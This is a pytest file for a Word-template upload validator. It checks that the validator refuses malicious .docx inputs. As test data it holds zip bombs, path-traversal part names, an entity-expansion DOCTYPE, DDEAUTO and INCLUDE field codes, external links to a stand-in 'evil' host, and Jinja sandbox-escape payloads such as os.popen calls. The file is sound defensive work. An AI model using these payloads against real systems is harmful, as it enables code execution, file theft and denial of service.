"""Uploads of Word templates: what is taken, and what is refused whole with its reason."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest

from engine.documents.templates import check_template
from engine.documents.worker.pool import Pool
from engine.kernel.errors import DefinitionRejected
from tests.engine.documents.kit import (
    SEAL_FORM,
    changed,
    package,
    parts,
    patched_sizes,
    problem_of,
    word,
)

GOOD = word("合同 {{ title }}", "金额 {{ amount|money }}（{{ amount|cn_upper }}）")


def refusal(data: bytes):
    with pytest.raises(DefinitionRejected) as refused:
        check_template(data, "form.docx")
    problem = problem_of(refused.value)
    assert problem.file == "form.docx"
    return problem


def code_of(data: bytes) -> str:
    try:
        check_template(data, "form.docx")
    except DefinitionRejected as refused:
        return problem_of(refused).code
    return "good"


def after_body(xml: bytes):
    return lambda content: content.replace(b"</w:body>", xml + b"</w:body>")


def test_a_good_template_tells_which_fields_it_reads():
    assert check_template(GOOD, "form.docx").fields == ("amount", "title")


def test_the_shipped_seal_form_is_good():
    fields = check_template(SEAL_FORM.read_bytes(), SEAL_FORM.name).fields

    assert {"number", "title", "counterpart", "copies", "pages", "seals", "approvals", "used_at"} <= set(
        fields
    )


def test_names_of_loops_and_settings_are_no_fields():
    template = word(
        "{% set total = price * 2 %}{{ total }}",
        rows=(
            ("{%tr for line in lines %}", ""),
            ("{{ line.name }}", "{{ loop.index }}"),
            ("{%tr endfor %}", ""),
        ),
    )

    assert check_template(template, "form.docx").fields == ("lines", "price")


def test_a_file_that_is_no_zip_is_refused():
    assert refusal(b"%PDF-1.7 nothing of Word").code == "template_not_zip"


def test_a_zip_that_is_no_word_file_is_refused():
    assert refusal(package({"hello.txt": b"hello"})).code == "template_not_word"


def test_a_spreadsheet_is_refused():
    content = parts(GOOD)
    content["[Content_Types].xml"] = content["[Content_Types].xml"].replace(
        b"wordprocessingml", b"spreadsheetml"
    )

    assert refusal(package(content)).code == "template_not_word"


def test_a_hundred_thousand_entries_are_refused():
    assert (
        refusal(package({f"word/{number}.xml": b"" for number in range(100_000)})).code
        == "template_too_many_parts"
    )


def test_a_bomb_is_refused_while_it_is_inflated():
    bomb = package(parts(GOOD) | {"word/bomb.xml": bytes(200 * 1024 * 1024)})

    problem = refusal(bomb)

    assert problem.code == "template_ratio"
    assert problem.element == "word/bomb.xml"


def test_many_parts_that_are_each_harmless_are_refused_together():
    # Words of a long list, packed tenfold: no single part stands out.
    block = "".join(f"{number:x}" for number in range(600_000)).encode()
    content = {f"word/{number}.bin": block for number in range(30)}

    assert refusal(package(parts(GOOD) | content)).code in {
        "template_inflates_too_large",
        "template_too_large",
    }


def test_a_bomb_that_claims_to_be_small_is_refused():
    bomb = package(parts(GOOD) | {"word/bomb.xml": bytes(200 * 1024 * 1024)})

    assert refusal(patched_sizes(bomb, "word/bomb.xml", 1000)).code == "template_ratio"


@pytest.mark.parametrize("claimed", [10, 2_000_000])
def test_a_part_that_is_longer_or_shorter_than_it_claims_is_refused(claimed):
    problem = refusal(patched_sizes(GOOD, "word/document.xml", claimed))

    assert (problem.code, problem.element) == ("template_part_damaged", "word/document.xml")


def test_a_part_whose_local_header_has_another_name_is_refused():
    assert (
        refusal(GOOD.replace(b"word/document.xml", b"word/decoying.xml", 1)).code == "template_part_damaged"
    )


def test_an_encrypted_part_is_refused():
    data = bytearray(GOOD)
    data[GOOD.index(b"PK\x01\x02") + 8] |= 1

    assert refusal(bytes(data)).code == "template_encrypted"


def test_a_compression_that_word_does_not_use_is_refused():
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_LZMA) as target:
        target.writestr("word/document.xml", b"<w/>")

    assert refusal(stream.getvalue()).code == "template_compression_unknown"


@pytest.mark.parametrize(
    "name", ["../evil.xml", "word/../../evil.xml", "/etc/evil.xml", "C:/evil.xml", "word\\evil.xml"]
)
def test_a_part_that_points_outside_is_refused(name):
    assert refusal(package(parts(GOOD) | {name: b"x"})).code == "template_part_name"


def test_a_part_that_comes_twice_is_refused():
    assert refusal(package(parts(GOOD) | {"word/DOCUMENT.xml": b"<w/>"})).code == "template_part_twice"


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("word/vbaProject.bin", "template_embedded_object"),
        ("word/embeddings/oleObject1.bin", "template_embedded_object"),
        ("word/activeX/activeX1.bin", "template_embedded_object"),
        ("word/afchunk.htm", "template_embedded_object"),
    ],
)
def test_programs_and_embedded_files_are_refused(name, code):
    assert refusal(package(parts(GOOD) | {name: b"x"})).code == code


@pytest.mark.parametrize("spelling", [b"macroEnabled", b"macro&#69;nabled"])
def test_a_macro_document_is_refused_however_it_spells_itself(spelling):
    extra = (
        b'<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.%s.main+xml"/>'
        % spelling
    )

    found = refusal(
        changed(GOOD, "[Content_Types].xml", lambda c: c.replace(b"</Types>", extra + b"</Types>"))
    )

    assert found.code == "template_macro"


@pytest.mark.parametrize(
    "part", ["word/document.xml", "word/styles.xml", "word/_rels/document.xml.rels", "docProps/core.xml"]
)
def test_a_doctype_is_refused_in_any_part(part):
    entity = b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'

    problem = refusal(changed(GOOD, part, lambda content: content.replace(b"?>", b"?>" + entity, 1)))

    assert (problem.code, problem.element) == ("template_doctype", part)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-7"])
def test_another_encoding_can_not_hide_a_doctype(encoding):
    def disguise(content: bytes) -> bytes:
        text = (
            content.decode()
            .replace("UTF-8", encoding)
            .replace("standalone='yes'", "")
            .replace('standalone="yes"', "")
        )
        return text.replace("?>", "?><!DOCTYPE w>", 1).encode(encoding)

    assert refusal(changed(GOOD, "word/document.xml", disguise)).code == "template_encoding"


@pytest.mark.parametrize("mode", [b"External", b"&#69;xternal", b" external "])
def test_a_link_to_the_outside_is_refused(mode):
    target = b'Target="http://evil/t.dotm"'
    link = b'<Relationship Id="rX" Type="http://x/t" %s TargetMode="%s"/>' % (target, mode)

    problem = refusal(
        changed(
            GOOD,
            "word/_rels/document.xml.rels",
            lambda c: c.replace(b"</Relationships>", link + b"</Relationships>"),
        )
    )

    assert (problem.code, problem.facts["target"]) == ("template_external_link", "http://evil/t.dotm")


@pytest.mark.parametrize(
    "field",
    [
        b"<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>",
        b'<w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "/etc/passwd"</w:instrText>',
        b"<w:instrText>&#68;DE<!-- --> x</w:instrText>",
        b'<w:instrText>includepicture "http://evil/x.png"</w:instrText>',
    ],
)
def test_a_field_that_fetches_or_starts_something_is_refused(field):
    body = b"<w:p><w:r>%s</w:r></w:p>" % field

    assert refusal(changed(GOOD, "word/document.xml", after_body(body))).code == "template_field_forbidden"


def test_page_numbers_and_tables_of_contents_are_fields_as_any():
    body = b"<w:p><w:r><w:instrText> PAGE </w:instrText></w:r>"
    body += b"<w:r><w:instrText> TOC \\o </w:instrText></w:r></w:p>"

    assert check_template(changed(GOOD, "word/document.xml", after_body(body)), "form.docx").fields


def test_deep_nesting_is_refused():
    deep = b"<w:p>" * 5_000 + b"</w:p>" * 5_000

    assert refusal(changed(GOOD, "word/document.xml", after_body(deep))).code == "template_unreadable"


def test_a_syntax_error_is_named_with_its_paragraph():
    problem = refusal(word("一", "二", "{% if a %}三"))

    assert problem.code == "template_syntax"
    assert problem.element == "word/document.xml"
    assert problem.line >= 3
    assert "endif" in problem.facts["detail"]


@pytest.mark.parametrize(
    ("payload", "code"),
    [
        ("{{ lipsum.__globals__['os'].popen('id > /tmp/x').read() }}", "template_call"),
        ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "template_call"),
        ("{{ self.__init__.__globals__.__builtins__ }}", "template_name"),
        ("{{ namespace.__init__.__globals__ }}", "template_name"),
        ("{{ ''.__class__.__mro__ }}", "template_name"),
        ("{{ ''['__class__'] }}", "template_name"),
        ("{{ request|attr('__class__') }}", "template_filter_unknown"),
        ("{{ x|map('upper')|list }}", "template_filter_unknown"),
        ("{{ '%s'|format(x) }}", "template_filter_unknown"),
        ("{{ x|safe }}", "template_filter_unknown"),
        ("{{ x.secret_method() }}", "template_call"),
        ("{{ x.append(1) }}", "template_call"),
        ("{% set n = namespace(a=1) %}", "template_call"),
        ("{{ dict(a=1) }}", "template_call"),
        ("{{ range(*x) }}", "template_call"),
        ("{% include '/etc/passwd' %}", "template_construct"),
        ("{% import 'os' as os %}", "template_construct"),
        ("{% extends 'base' %}", "template_construct"),
        ("{% macro m() %}{{ a }}{% endmacro %}", "template_construct"),
        ("{% for a in x recursive %}{{ loop(a.children) }}{% endfor %}", "template_construct"),
        ("{% filter upper %}x{% endfilter %}", "template_construct"),
        ("{{ 'a' ** 9 }}", "template_construct"),
        ("{{ x is filter('upper') }}", "template_test_unknown"),
        ("{% debug %}", "template_syntax"),
        ("{{ 7*'7' }}", "template_structure"),
        ("{{ '%1000000000d' % 1 }}", "template_structure"),
        ("{{ range(10**9) }}", "template_construct"),
        ("{% for a in range(1000000) %}x{% endfor %}", "template_structure"),
    ],
)  # fmt: skip
def test_what_reaches_out_of_the_sandbox_is_refused(payload, code):
    assert refusal(word(payload)).code == code


def test_nested_loops_that_never_end_are_refused_and_the_next_template_is_served():
    loops = "{% for a in range(1000) %}{% for b in range(1000) %}{% for c in range(1000) %}x"
    endless = word(loops + "{% endfor %}" * 3)
    pool = Pool(cpu_seconds=1)
    try:
        with pytest.raises(DefinitionRejected) as refused:
            check_template(endless, "form.docx", pool)

        assert problem_of(refused.value).code == "template_exhausts"
        assert check_template(GOOD, "form.docx", pool).fields == ("amount", "title")
    finally:
        pool.close()


def test_text_that_doubles_itself_is_refused():
    doubling = "{% set a = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' %}" + "{% set a = a ~ a %}" * 40

    assert refusal(word(doubling + "{{ a }}")).code == "template_exhausts"


def test_a_placeholder_where_nothing_is_filled_is_refused():
    comment = b"<w:comments xmlns:w='x'><w:t>{</w:t><w:t>{ name }}</w:t></w:comments>"

    problem = refusal(package(parts(GOOD) | {"word/comments.xml": comment}))

    assert (problem.code, problem.element) == ("template_placeholder_outside", "word/comments.xml")


def test_a_condition_that_tears_a_table_apart_is_refused():
    assert refusal(word("{% if a %}one", rows=(("two{% endif %}", ""),))).code == "template_structure"


def test_a_condition_over_two_paragraphs_is_good():
    assert check_template(word("{% if a %}one", "two{% endif %} three"), "form.docx").fields == ("a",)


def test_comparing_and_calculating_with_fields_is_good():
    template = word("{% if amount > 10 and (amount + 1) * rate < -limit %}{{ amount - rate }}{% endif %}")

    assert check_template(template, "form.docx").fields == ("amount", "limit", "rate")


def test_random_damage_is_always_a_refusal():
    for position in range(0, len(GOOD), max(len(GOOD) // 40, 1)):
        damaged = bytearray(GOOD)
        damaged[position] ^= 0x5A
        assert code_of(bytes(damaged)).startswith(("good", "template_"))


def test_a_checksum_that_does_not_fit_is_refused():
    content = parts(GOOD)["word/document.xml"]
    wrong = GOOD.replace(zlib.crc32(content).to_bytes(4, "little"), b"\0\0\0\0")

    assert refusal(wrong).code == "template_part_damaged"
